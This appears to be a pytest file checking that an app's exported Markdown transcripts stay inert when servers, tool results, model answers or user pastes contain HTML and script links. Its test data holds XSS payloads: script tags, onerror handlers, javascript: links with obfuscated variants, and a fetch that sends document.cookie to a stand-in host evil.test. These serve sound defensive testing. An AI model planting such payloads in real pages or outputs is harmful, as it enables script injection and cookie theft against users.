"""An exported transcript is inert: rendered by a CommonMark renderer that passes raw HTML and any link
through (as many Markdown viewers do), nothing a server or the model wrote becomes HTML or a link that
is not to the web or a mail address; the answer's own Markdown still renders."""

from __future__ import annotations

import json
from typing import Any

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from desktop_app.core.ledger.markdown import MarkdownTranscript
from desktop_app.core.ledger.scrub import Scrubber
from desktop_app.core.ledger.trace_view import TraceView

HOSTILE_URI = "note://x/<img src=x onerror=\"fetch('https://evil.test/'+document.cookie)\">"
HOSTILE_NAME = "evil`<script>alert('name')</script>`"
ANSWER = "\n".join(
    [
        "Here is the page: <script>alert('answer')</script> and <img src=x onerror=alert(1)>.",
        "",
        "[open](javascript:alert(1)), [sneaky](javascript&#58;alert(2)), ![pic](javascript:alert(3)),",
        "[relative](file:///etc/passwd), <javascript:alert(4)> and [by reference][r].",
        "",
        "[r]: javascript:alert(5)",
        "",
        '<a href="javascript:alert(6)">raw</a>',
        "",
        "\\<img src=x onerror=alert(7)> and \\`<img src=x onerror=alert(8)>\\`",
        "",
        "Read [the docs](https://example.com/docs) or [mail us](mailto:team@example.com); use `List<int>`.",
        "",
        "```html",
        "<b>shown as code</b>",
        "```",
    ]
)


def viewer() -> MarkdownIt:
    """CommonMark with raw HTML on and every link followed: what the least careful viewer does."""
    parser = MarkdownIt("commonmark", {"html": True})
    parser.validateLink = lambda url: True  # type: ignore[method-assign]
    return parser


def every_token(tokens: list[Token]) -> list[Token]:
    found: list[Token] = []
    for token in tokens:
        found.append(token)
        found += every_token(token.children or [])
    return found


def assert_inert(markdown: str) -> str:
    """No raw HTML and no link or image that is not http(s)/mailto; returns the rendered HTML."""
    tokens = every_token(viewer().parse(markdown))
    assert [t.content for t in tokens if t.type in ("html_inline", "html_block")] == []
    targets = [str(t.attrGet("href") or t.attrGet("src")) for t in tokens if t.type in ("link_open", "image")]
    assert all(target.startswith(("https://", "http://", "mailto:")) for target in targets), targets
    rendered = viewer().render(markdown)
    for live in ("<img", "<script", '<a href="javascript', 'onerror="', 'src="javascript'):
        assert live not in rendered, live
    return rendered


def transcript(messages: list[dict[str, Any]], events: list[tuple[int, dict[str, Any]]], title: str = "t") -> str:
    return MarkdownTranscript(title, messages, events, TraceView([]), Scrubber()).render()


def test_what_servers_wrote_stays_text_wherever_it_is_shown() -> None:
    call = {"id": "c1", "function": {"name": HOSTILE_NAME, "arguments": json.dumps({"html": "</script><img>"})}}
    messages = [
        {"role": "user", "content": "What is in my note?"},
        {"role": "assistant", "content": "", "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "c1", "content": "```\n<script>alert('result')</script>\n```"},
    ]
    read = {"type": "ResourceRead", "uri": HOSTILE_URI, "server": "<script>s</script>", "contents": [{"size": 3}]}
    decision = {
        "type": "ToolDecision",
        "call_id": "c1",
        "allowed": False,
        "decided_by": "rule",
        "reason": "[why](javascript:alert(9)) <img src=x onerror=alert(10)>",
    }
    markdown = transcript(messages, [(1, read), (1, decision)], title="<img src=x onerror=alert(11)>")
    rendered = assert_inert(markdown)
    assert "note://x/&lt;img src=x onerror=" in rendered  # shown, as text
    assert "&lt;script&gt;alert('result')&lt;/script&gt;" in rendered


def test_the_answer_keeps_its_markdown_but_no_html_nor_script_links() -> None:
    markdown = transcript([{"role": "user", "content": "Hi"}, {"role": "assistant", "content": ANSWER}], [])
    rendered = assert_inert(markdown)
    assert '<a href="https://example.com/docs">the docs</a>' in rendered
    assert '<a href="mailto:team@example.com">mail us</a>' in rendered
    assert "<code>List&lt;int&gt;</code>" in rendered
    assert '<code class="language-html">&lt;b&gt;shown as code&lt;/b&gt;' in rendered
    assert "&lt;script&gt;alert('answer')&lt;/script&gt;" in rendered  # the tag is shown, not run
    assert "[open](javascript:alert(1))" in rendered  # the link is written as text


def test_a_message_the_user_pasted_is_inert_too() -> None:
    pasted = 'Look: <iframe src="javascript:alert(1)"></iframe> [x](vbscript:msgbox)'
    assert_inert(transcript([{"role": "user", "content": pasted}], []))


@pytest.mark.parametrize(
    "answer",
    [
        "[a [b] c](javascript:alert(1))",
        "x ` <img src=x onerror=alert(1)>\n# `",
        "[x](\njavascript:alert(1))",
        "[x]\n\n[x]:\n  javascript:alert(1)",
        "- item <details open ontoggle=alert(1)>\n\n    <script>indented code</script>",
        "> quoted <svg onload=alert(1)>",
        "\\\\<img src=x onerror=alert(1)> [y\\\\](javascript:alert(2))",
        "a\r<img src=x onerror=alert(1)>\u2028<script>b</script>",
        "[x](JAVASCRIPT:alert(1)) [y](  java\tscript:alert(2)) <JaVaScRiPt:alert(3)>",
    ],
)
def test_tricky_answers_are_inert(answer: str) -> None:
    assert_inert(transcript([{"role": "assistant", "content": answer}], []))
